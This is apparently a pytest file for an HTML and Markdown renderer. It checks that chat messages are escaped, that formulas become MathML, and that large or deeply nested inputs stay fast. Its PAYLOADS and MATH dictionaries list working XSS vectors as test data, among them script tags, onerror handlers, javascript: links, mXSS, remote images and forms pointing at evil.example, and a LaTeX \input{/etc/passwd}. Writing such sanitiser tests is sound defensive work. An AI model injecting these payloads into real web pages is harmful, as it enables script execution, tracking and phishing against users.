"""Hostile text: nothing that runs, loads or leads elsewhere is left of it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from time import process_time

import pytest

from annotate.figures import as_label, facts_html, table_html
from annotate.formulas import ATTRIBUTES, TAGS, attribute
from annotate.rendering import (
    LONGEST_MARKDOWN,
    MOST_MARKS,
    conversation_html,
    response_html,
    to_html,
)
from data.records import Message

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "image handler": '<img src=x onerror="alert(1)">',
    "svg": "<svg/onload=alert(1)>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "style": "<style>@import url(https://evil.example/x.css)</style>",
    "style attribute": '<p style="background:url(https://evil.example/x)">x</p>',
    "link element": '<link rel=stylesheet href=https://evil.example/x.css>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action=https://evil.example><button>Sign in</button></form>',
    "closing our own": '</div></div><script>alert(1)</script><div class="',
    "javascript link": "[click](javascript:alert(1))",
    "javascript in caps": "[click](JaVaScRiPt:alert(1))",
    "javascript by entity": "[click](&#106;avascript:alert(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[click](vbscript:msgbox(1))",
    "remote image": "![tracker](https://evil.example/pixel.png)",
    "image by reference": "![t][1]\n\n[1]: https://evil.example/pixel.png \"onerror=alert(1)\"",
    "image title": '![x](https://evil.example/x.png "a" onerror="alert(1)")',
    "link title": '[x](https://evil.example/ "\\"><script>alert(1)</script>")',
    "autolink": "<https://evil.example/?q=<script>>",
    "html in code": "```html\n<script>alert(1)</script>\n```",
    "language of a fence": "```\"><script>alert(1)</script>\nx\n```",
    "table": "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "streamlit directive": ":material/home: :red[x] $\\href{javascript:alert(1)}{x}$",
    "direction override": "\u202etxt.exe\u202c",
}

MATH = {
    "link": r"$\href{javascript:alert(1)}{x}$", "style": r"$\style{position:fixed}{x}$",
    "class": r"$\class{pf-desk}{x}$", "id": r"$\cssId{root}{x}$",
    "tag in text": r"\(\text{<img src=x onerror=alert(1)>}\)",
    "script in text": r"\[\text{</math><script>alert(1)</script>}\]",
    "entity": r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    "white on white": r"$\color{white}{hidden}$", "far left": r"$\hspace{-90em}x$",
    "far right": r"$\hspace{9999em}x$", "deep": "$" + "{" * 900 + "}" * 900 + "$",
    "endless": "$" + "x^{" * 600 + "$", "fractions": "$" + r"\frac" * 390 + "$",
    "unclosed": r"$\begin{matrix} a & b$", "long": "$" + "x+" * 5000 + "$",
    "many": "$x$ " * 2000, "macro": r"$\def\a{\a\a}\a$",
    "file": r"$\input{/etc/passwd}\includegraphics{https://evil.example/x.png}$",
    "image": r"$![x](https://evil.example/x.png)$", "display": "$$\n<script>alert(1)</script>\n$$",
}
PAYLOADS |= {f"formula: {name}": text for name, text in MATH.items()}

SAFE_TAGS = TAGS | {
    "p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "h1", "h2",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span", "div", "details",
    "summary"}
SAFE_ATTRIBUTES = {"class", "dir", "tabindex", "start"}.union(*ATTRIBUTES.values())


class Inventory(HTMLParser):
    """Every element and attribute as a browser's parser would find them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.depth = 0
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.depth += tag == "div"

    def handle_endtag(self, tag: str) -> None:
        self.depth -= tag == "div"
        assert self.depth >= 0, "the text closed an element that is not its own"

    def handle_data(self, data: str) -> None:
        self.text += data


def inventory(html: str) -> Inventory:
    found = Inventory()
    found.feed(html)
    found.close()
    return found


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_nothing_executable_or_remote_remains(payload: str) -> None:
    message = Message(role="user", content=payload)
    for html in (to_html(payload), response_html(payload), to_html(f"> - {payload}"),
                 conversation_html([Message(role="<b>", content=payload * 50), message])):
        found = inventory(html)
        assert found.tags <= SAFE_TAGS
        assert found.attributes <= SAFE_ATTRIBUTES
        assert found.depth == 0


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_names_and_figures_are_escaped(payload: str) -> None:
    html = table_html((payload,), [(payload,)]) + facts_html([(payload, payload, payload)])
    found = inventory(html)
    assert found.tags <= SAFE_TAGS and found.attributes <= SAFE_ATTRIBUTES
    assert not re.search(r"(?<!\\)[\[\]<`$:]", as_label(payload))


def test_what_was_written_is_still_readable() -> None:
    assert "<script>alert(1)</script>" in inventory(to_html("<script>alert(1)</script>")).text
    assert inventory(to_html("![a cat](https://x.example/cat.png)")).text.split() == [
        "[image:", "a", "cat]", "(https://x.example/cat.png)"]
    assert inventory(to_html("see [the **site**](https://x.example)")).text.strip() == \
        "see the site (https://x.example)"
    assert inventory(to_html("<https://x.example>")).text.strip() == "https://x.example"


def test_markdown_that_models_write_is_rendered() -> None:
    text = ("# Plan\n\n1. **Buy** it\n2. *Read* it\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```\nx < y\n```")
    html = to_html(text)
    for part in ("<h1>Plan</h1>", "<strong>Buy</strong>", "<td>2</td>", "x &lt; y"):
        assert part in html
    assert "<br>" in to_html("a poem\nof two lines")


def test_odd_sizes_are_no_trouble() -> None:
    assert "(empty response)" in to_html(" \n ")
    huge = "*a* " * LONGEST_MARKDOWN
    assert to_html(huge).startswith("<pre>")
    for nested in ("[" * 5000, ">" * 5000, "*" * 5000, "![" * 3000, "- " * 3000):
        to_html(nested)


@pytest.mark.parametrize("unit", ["[", "![", "*[", "![a\n", "*_", "a*", "&", "\\(", "\n#", "|a|\n",
                                  "[](", "[a](b)", "[]()", "<a", "`"])
def test_no_text_costs_much_whatever_it_is_made_of(unit: str) -> None:
    """As many marks as are parsed; those of a few seconds are shown as they are."""
    most = min(LONGEST_MARKDOWN // len(unit), MOST_MARKS // sum(c in "\n[]*_`<&\\|!" for c in unit))
    began = process_time()
    to_html(unit * most)
    assert process_time() - began < 1.5  # a few tenths, on a machine that has nothing else to do
    assert to_html(unit * 25_000).startswith("<pre>")


def test_a_table_that_would_be_filled_up_with_cells_is_shown_as_it_is() -> None:
    def table(rows: int) -> str:
        return f"{'|a' * 90}|\n{'|-' * 90}|\n" + "|b\n" * rows

    assert "<table>" in to_html(table(100))
    assert to_html(table(120)).startswith("<pre>")
    assert "<table>" in to_html("|a|b|\n|-|-|\n|1|2|\n\n" + "A line of prose.\n" * 3000)


def test_a_long_history_is_folded_and_a_short_one_is_open() -> None:
    ask, reply = Message(role="user", content="hi"), Message(role="assistant", content="hello")
    assert "<details>" not in conversation_html([ask, reply, ask])
    long = Message(role="assistant", content="word " * 300)
    assert "<summary>2 earlier messages</summary>" in conversation_html([ask, long, ask])


def test_only_as_much_is_folded_as_is_long() -> None:
    turns = [Message(role="user", content="old " * 200),
             Message(role="assistant", content="older reply " * 60),
             Message(role="user", content="short question"),
             Message(role="assistant", content="short reply"),
             Message(role="user", content="and now?")]
    html = conversation_html(turns)
    folded = html[html.index("<details>"):html.index("</details>")]
    assert "<summary>2 earlier messages</summary>" in folded and "old old" in folded
    assert "short question" not in folded and "short reply" not in folded


@pytest.mark.parametrize(("source", "display"), [
    (r"$\frac{a}{b}$", False), (r"\(\frac{a}{b}\)", False), (r"\[\frac{a}{b}\]", True),
    ("$$\n\\frac{a}{b}\n$$", True), (r"so $$\frac{a}{b}$$ it is", True)])
def test_formulas_become_mathml(source: str, display: bool) -> None:
    html = to_html(source)
    assert "<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>" in html
    assert f'<math display="{"block" if display else "inline"}">' in html


def test_money_code_and_what_is_no_formula_stay_as_they_are() -> None:
    assert inventory(to_html("It costs $5, or $10 with tax.")).text.strip() == \
        "It costs $5, or $10 with tax."
    assert "<math" not in to_html("`$x$` and \\$x\\$ and $ x $") + to_html("```\n$x$\n```")
    assert "<code>\\frac{</code>" in to_html(r"$\frac{$")
    assert "x+x+" in to_html(MATH["long"]) and "<math" not in to_html(MATH["long"])
    text = inventory(to_html(MATH["tag in text"])).text
    assert text.replace("\xa0", " ").strip() == "<img src=x onerror=alert(1)>"


def test_blanks_and_sizes_of_formulas_stay_small() -> None:
    assert attribute("mspace", "width", "1em") == "1em"
    for width in ("-1em", "99em", "100%", "1px;", "1e9em"):
        assert attribute("mspace", "width", width) is None
    assert attribute("mstyle", "scriptlevel", "-5") is None
    assert attribute("mo", "form", "url(//evil.example)") is None
